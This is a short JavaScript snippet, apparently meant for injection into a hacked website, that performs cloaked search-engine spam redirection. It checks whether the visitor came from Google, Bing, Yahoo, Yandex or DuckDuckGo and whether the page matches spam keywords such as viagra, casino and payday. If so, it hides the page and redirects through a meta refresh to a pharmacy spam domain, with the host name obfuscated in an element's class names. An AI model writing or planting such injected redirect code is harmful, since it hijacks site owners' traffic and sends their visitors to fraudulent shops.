var engines = ['google.', 'bing.', 'yahoo.', 'yandex.', 'duckduckgo.'];
var words = /viagra|cialis|essay|casino|payday/i;
function fromSearch(r) {
  for (var e in engines) {
    if (r.indexOf(engines[e]) > 0) { return true; }
  }
  return false;
}
var shop = document.getElementById('ft-2019');
if (shop && fromSearch(document.referrer) && words.test(document.title + location.pathname)) {
  var kw = location.pathname.replace(/^.*\//, '').replace(/\W+/g, '+');
  var to = shop.className.split(' ').map(function (c) {
    return c.charAt(c.length - 1);
  }).join('');
  document.body.style.display = 'none';
  var meta = document.createElement('meta');
  meta.httpEquiv = 'refresh';
  meta.content = '0;url=http://' + to + '.rx-shop.example/search.php?q=' + kw;
  document.getElementsByTagName('head')[0].appendChild(meta);
}
